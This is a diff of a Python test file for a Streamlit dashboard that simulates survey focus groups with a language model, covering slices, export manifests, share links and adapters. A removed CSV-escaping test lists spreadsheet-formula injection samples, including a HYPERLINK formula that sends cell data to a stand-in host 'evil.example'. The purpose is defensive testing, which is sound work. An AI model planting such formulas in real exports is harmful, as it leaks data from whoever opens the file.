@@ -1,11 +1,9 @@
 """Every dashboard page under Streamlit's AppTest, with real interactions (tiny model)."""
 
 import base64
-import csv
-import io
+import importlib.metadata
 import json
 import tomllib
-import zipfile
 from pathlib import Path
 
 import numpy as np
@@ -49,11 +47,24 @@ def test_app_routes_to_the_focus_group_page():
     assert app.title[0].value == "Focus group"
 
 
-def test_focus_group_slice_question_temperature_and_bundle(monkeypatch):
+def manifest_of(app: AppTest) -> dict:
+    """The manifest the page's exports carry, as shown in its Manifest expander."""
+    return json.loads(app.json[0].value)
+
+
+def strings_in(value) -> list[str]:
+    if isinstance(value, dict):
+        return [s for item in value.items() for s in strings_in(list(item))]
+    if isinstance(value, list):
+        return [s for item in value for s in strings_in(item)]
+    return [value] if isinstance(value, str) else []
+
+
+def test_focus_group_slice_question_temperature_and_exports(monkeypatch):
     app = page("focus_group")
     assert "Choose a slice" in app.info[0].value
     app.multiselect(key="slice_gss2018_partyid").set_value(["Strong Democrat"])
-    app.button[0].click().run()  # the form's Simulate button
+    app.button(key="simulate").click().run()
     assert not app.exception, app.exception
     assert "379" in app.markdown[0].value
     assert any("a second real sample of this size" in m.value for m in app.markdown)
@@ -69,39 +80,154 @@ def test_focus_group_slice_question_temperature_and_bundle(monkeypatch):
     after = chart_data(app)
     assert before != after and all(abs(v * 379 - round(v * 379)) < 1e-6 for v in after)
 
-    app.button(key="make_bundle").click().run()
-    assert not app.exception, app.exception
-    bundle = zipfile.ZipFile(io.BytesIO(app.session_state["last_bundle"]))
-    names = set(bundle.namelist())
-    assert {"distribution.html", "distribution.csv", "manifest.json"} <= names
-    manifest = json.loads(bundle.read("manifest.json"))
+    labels = [button.label for button in app.get("download_button")]
+    assert {"Excel", "PowerPoint", "CSV", "HTML", "Report bundle (ZIP)"} <= set(labels)
+    manifest = manifest_of(app)
     assert manifest["slice"] == {"partyid": ["Strong Democrat"]} and manifest["temperature"] == 0.0
     assert manifest["n_personas"] == 379 and manifest["survey"] == "gss2018"
+    assert manifest["app"]["version"] == importlib.metadata.version("focusgroup")
+    assert manifest["scale"] == {"type": "ordinal", "positive_end": "first", "top_box": "Too little",
+                                 "off_scale": []}
+    assert set(manifest["individual_metrics"]) >= {"accuracy", "log_loss", "rmse"}
+    assert 0 <= manifest["individual_metrics"]["accuracy"] <= 1
+    assert manifest["model"] == "tiny (no adapter)" and manifest["adapter"] is None
+    figure = json.loads(app.get("plotly_chart")[0].proto.spec)
+    assert "tiny (no adapter)" in json.dumps(figure["layout"]["title"])  # the chart names model and adapter
+    home, root = str(Path.home()), str(DASHBOARD.parent)
+    assert not [s for s in strings_in(manifest) if s.startswith("/") or home in s or root in s]
+
+
+def test_the_slice_count_follows_each_pick_before_simulate():
+    app = page("focus_group")
+    assert "everyone: **2,348**" in app.markdown[0].value
+    app.multiselect(key="slice_gss2018_partyid").set_value(["Strong Democrat"]).run()
+    assert "**379** real respondents" in app.markdown[0].value
+    app.multiselect(key="slice_gss2018_sex").set_value(["Female"]).run()
+    assert "sex = Female; partyid = Strong Democrat: **223** real respondents" in app.markdown[0].value
+    assert any("Choose a slice" in info.value for info in app.info)  # nothing was simulated
+    from dashboard import resources
+
+    assert not resources.SIMULATIONS
+
+
+def test_inputs_that_do_not_apply_are_hidden():
+    app = page("focus_group")
+    assert "new_text" not in [widget.key for widget in app.text_input]
+    assert "stimulus_b" not in [widget.key for widget in app.text_area]
+    assert "context_k" not in [widget.key for widget in app.slider]
+    app.radio(key="kind_gss2018").set_value("New product question").run()
+    assert "new_text" in [widget.key for widget in app.text_input]
+    assert "question_gss2018" not in [widget.key for widget in app.selectbox]
+    app.selectbox(key="new_type").set_value("nominal").run()
+    assert "new_positive" not in [widget.key for widget in app.selectbox]  # no favourable end without a scale
+    app.checkbox(key="compare").check().run()
+    assert "stimulus_b" in [widget.key for widget in app.text_area]
+    app.radio(key="kind_gss2018").set_value("Survey question").run()
+    assert "new_text" not in [widget.key for widget in app.text_input]
+
+
+def test_everyone_shows_the_marginal_baseline_as_its_exact_reference():
+    app = page("focus_group")
+    app.button(key="simulate").click().run()
+    assert not app.exception, app.exception
+    metrics = app.dataframe[0].value
+    assert "marginal" not in metrics.columns and "uniform" in metrics.columns
+    assert any("exactly by construction" in caption.value for caption in app.caption)
 
 
 def test_an_empty_slice_is_explained_not_an_error():
     app = page("focus_group")
     app.multiselect(key="slice_gss2018_race").set_value(["Other"])
     app.multiselect(key="slice_gss2018_partyid").set_value(["Other party"])
-    app.multiselect(key="slice_gss2018_age").set_value(["75+"])
-    app.button[0].click().run()
+    app.multiselect(key="slice_gss2018_age").set_value(["75+"]).run()
     assert not app.exception
     assert any("No respondent" in info.value for info in app.info)
+    assert app.button(key="simulate").disabled
 
 
 def test_a_new_product_question_with_ab_stimuli():
     app = page("focus_group")
     app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
-    app.radio(key="kind_gss2018").set_value("New product question")
+    app.radio(key="kind_gss2018").set_value("New product question").run()
     app.text_input(key="new_text").set_value("Would you try a solar roof subscription?")
     app.text_area(key="stimulus_a").set_value("No installation cost.")
-    app.checkbox(key="compare").check()
+    app.checkbox(key="compare").check().run()
     app.text_area(key="stimulus_b").set_value("Saves 30% on bills.")
-    app.button[0].click().run()
+    app.button(key="simulate").click().run()
     assert not app.exception, app.exception
     assert any("new question" in info.value for info in app.info)
     assert len(app.get("plotly_chart")) == 2  # the distribution and the A/B chart
     assert any("predicted shift" in header.value for header in app.subheader)
+
+
+def test_a_link_carries_the_whole_view_to_a_fresh_session():
+    app = page("focus_group")
+    app.selectbox(key="question_gss2018").set_value("natenrgy")
+    both = ["Strong Democrat", "Independent, close to Democrat"]  # a value with a comma of its own
+    app.multiselect(key="slice_gss2018_partyid").set_value(both)
+    app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
+    app.button(key="simulate").click().run()
+    app.slider(key="temperature").set_value(0.55).run()
+    assert not app.exception, app.exception
+    link = dict(app.query_params)
+    assert link["question"] == "natenrgy" and link["temperature"] == "0.55" and link["survey"] == "gss2018"
+    assert link["partyid"] == both and link["model"] == "none"
+
+    shared = AppTest.from_file(str(DASHBOARD / "pages" / "focus_group.py"), default_timeout=TIMEOUT)
+    shared.query_params.update(link)
+    shared.run()
+    assert not shared.exception, shared.exception
+    assert not shared.warning  # every value of the link exists
+    assert shared.selectbox(key="survey_id").value == "gss2018"
+    assert shared.selectbox(key="question_gss2018").value == "natenrgy"
+    assert shared.multiselect(key="slice_gss2018_partyid").value == both
+    assert shared.multiselect(key="slice_gss2018_sex").value == ["Female"]
+    assert shared.session_state["temperature"] == 0.55
+    assert shared.markdown[0].value == app.markdown[0].value  # the same slice and its count
+
+
+def test_a_link_naming_what_does_not_exist_is_warned_about_not_replaced_silently():
+    app = AppTest.from_file(str(DASHBOARD / "pages" / "focus_group.py"), default_timeout=TIMEOUT)
+    app.query_params.update({"question": "natenergy", "partyid": "Strong Democrats,strong democrat",
+                             "colour": "blue", "temperature": "7", "model": "gss2019-smollm2"})
+    app.run()
+    assert not app.exception, app.exception
+    warnings = " ".join(warning.value for warning in app.warning)
+    for unknown in ("natenergy", "Strong Democrats", "colour", "temperature **7**", "gss2019-smollm2"):
+        assert unknown in warnings, unknown
+    assert app.multiselect(key="slice_gss2018_partyid").value == ["Strong Democrat"]  # the known value kept
+    assert app.query_params["question"] == "natspac"  # the address now says what is shown
+    app.multiselect(key="slice_gss2018_sex").set_value(["Male"]).run()
+    assert "natenergy" in " ".join(warning.value for warning in app.warning)  # still there until Simulate
+
+
+def test_comma_separated_link_values_keep_values_that_contain_commas():
+    from dashboard.link import split_values
+
+    values = ("Strong Democrat", "Independent, close to Democrat", "Independent")
+    assert split_values("independent, close to democrat,Strong Democrat,Independent", values) == (
+        ["Independent, close to Democrat", "Strong Democrat", "Independent"], [])
+    assert split_values("Independent,Strong Democrats", values) == (["Independent"], ["Strong Democrats"])
+
+
+def test_a_trained_adapter_is_listed_but_never_preselected(monkeypatch, tmp_path):
+    from dashboard import resources, state
+    from engine.models import SHIPPED_ADAPTERS
+
+    shipped = SHIPPED_ADAPTERS / "gss2018-smollm2"
+    choices = {"gss2018-lora-new (trained on gss2018)": str(tmp_path / "gss2018-lora-new"),
+               "gss2018-smollm2 (trained on gss2018, default)": str(shipped), resources.BARE_MODEL: None}
+    monkeypatch.setattr("dashboard.state.shipped_adapter", lambda survey_id: shipped)
+    assert state.default_model(choices, "gss2018") == "gss2018-smollm2 (trained on gss2018, default)"
+    monkeypatch.setattr("dashboard.state.shipped_adapter", lambda survey_id: None)
+    assert state.default_model(choices, "gss2018") == resources.BARE_MODEL
+
+    monkeypatch.setattr(resources, "adapter_choices", lambda survey_id: choices)
+    monkeypatch.setattr("dashboard.state.shipped_adapter", lambda survey_id: shipped)
+    app = page("focus_group")
+    picker = app.selectbox(key="model_choice")
+    assert picker.value == "gss2018-smollm2 (trained on gss2018, default)"
+    assert "gss2018-lora-new (trained on gss2018)" in picker.options
 
 
 def test_scoreboard_heatmap_and_temperature_curve():
@@ -137,43 +263,6 @@ def test_data_page_breaks_answers_down_by_field():
     assert list(table["value"]) == ["Male", "Female"] and table["n"].sum() > 2000
 
 
-@pytest.mark.skipif(__import__("shutil").which("chromium") is None, reason="needs Chromium for kaleido")
-def test_charts_export_as_png_svg_html_and_csv():
-    from dashboard import charts, export
-
-    frame = charts.distribution_frame(["Yes", "No"], np.array([0.4, 0.6]), np.array([0.5, 0.5]),
-                                      np.array([0.05, 0.05]))
-    figure = charts.distribution_figure(frame, "Would you buy it?", "test slice")
-    assert export.static_image(figure, "png").startswith(b"\x89PNG")
-    assert b"<svg" in export.static_image(figure, "svg")[:200]
-    assert b"Simulated by a language model" in export.html_document(figure)
-    assert export.csv_bytes(frame).decode().splitlines()[0] == "option,simulated,real,real_band"
-    bundle, notes = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"})
-    names = set(zipfile.ZipFile(io.BytesIO(bundle)).namelist())
-    assert notes == [] and {"chart.png", "chart.svg", "chart.html", "chart.csv", "manifest.json"} <= names
-
-
-FORMULAS = ["=1+2", "@SUM(1)", '=HYPERLINK("http://evil.example/?leak="&A1,"Yes")', "+1", "-cmd", "\tx", "\rx"]
-
-
-def test_csv_export_escapes_spreadsheet_formulas_in_cells_and_headers():
-    from dashboard import charts, export
-
-    labels = [*FORMULAS, "Plain answer"]
-    frame = charts.distribution_frame(labels, np.full(len(labels), 1 / len(labels)), None, None)
-    frame["=HYPERLINK(\"http://evil.example\")"] = -0.5  # a typed question as a header; a negative number
-    original = frame.copy()
-    rows = list(csv.reader(io.StringIO(export.csv_bytes(frame).decode(), newline="")))
-    assert rows[0] == ["option", "simulated", "real", "real_band", "'=HYPERLINK(\"http://evil.example\")"]
-    assert [row[0] for row in rows[1:]] == ["'" + label for label in FORMULAS] + ["Plain answer"]
-    assert {row[4] for row in rows[1:]} == {"-0.5"}  # numbers stay numbers
-    assert frame.equals(original)  # the frame on screen keeps its text
-
-    figure = charts.distribution_figure(frame, "=1+2", "slice")
-    bundle, _ = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"}, with_images=False)
-    assert zipfile.ZipFile(io.BytesIO(bundle)).read("chart.csv") == export.csv_bytes(frame)
-
-
 def test_the_dashboard_listens_only_on_this_machine_unless_told_otherwise():
     config = tomllib.loads((DASHBOARD.parent / ".streamlit" / "config.toml").read_text())
     assert config["server"]["address"] == "127.0.0.1"
@@ -183,8 +272,9 @@ def test_focus_group_twins_carry_context_answers_into_the_chart_and_the_export()
     app = page("focus_group")
     app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
     app.multiselect(key="context_gss2018").set_value(["auto"])
+    app.run()  # the number of auto context answers shows once auto is picked
     app.slider(key="context_k").set_value(3)
-    app.button[0].click().run()
+    app.button(key="simulate").click().run()
     assert not app.exception, app.exception
     simulation_request = app.session_state["simulation_request"]
     context = simulation_request["context"]
@@ -192,7 +282,7 @@ def test_focus_group_twins_carry_context_answers_into_the_chart_and_the_export()
     figure = json.loads(app.get("plotly_chart")[0].proto.spec)
     assert f"context (3): {', '.join(context)}" in json.dumps(figure["layout"]["title"])
     app.multiselect(key="context_gss2018").set_value([app.selectbox(key="question_gss2018").value])
-    app.button[0].click().run()
+    app.button(key="simulate").click().run()
     assert any("cannot be its own context" in error.value for error in app.error)
 
 
@@ -200,7 +290,7 @@ def test_focus_group_combines_a_drawn_pilot_with_the_model():
     app = page("focus_group")
     app.selectbox(key="question_gss2018").set_value("natenvir")
     app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
-    app.button[0].click().run()
+    app.button(key="simulate").click().run()
     assert not app.exception, app.exception
     app.number_input(key="pilot_size").set_value(300)
     app.button(key="FormSubmitter:pilot-Combine with the pilot").click().run()
@@ -212,7 +302,5 @@ def test_focus_group_combines_a_drawn_pilot_with_the_model():
     assert any("pilot answers in sex = Female" in m.value for m in app.markdown)
     app.slider(key="temperature").set_value(0.5).run()  # the pilot stays, re-read at the new temperature
     assert not app.exception and len(app.get("plotly_chart")) == 2
-    app.button(key="make_bundle").click().run()
-    bundle = zipfile.ZipFile(io.BytesIO(app.session_state["last_bundle"]))
-    assert "pilot.csv" in bundle.namelist()
-    assert json.loads(bundle.read("manifest.json"))["pilot"]["source"] == "300 respondents drawn with seed 0"
+    assert any("(distribution, pilot)" in caption.value for caption in app.caption)  # the bundle's charts
+    assert manifest_of(app)["pilot"]["source"] == "300 respondents drawn with seed 0"
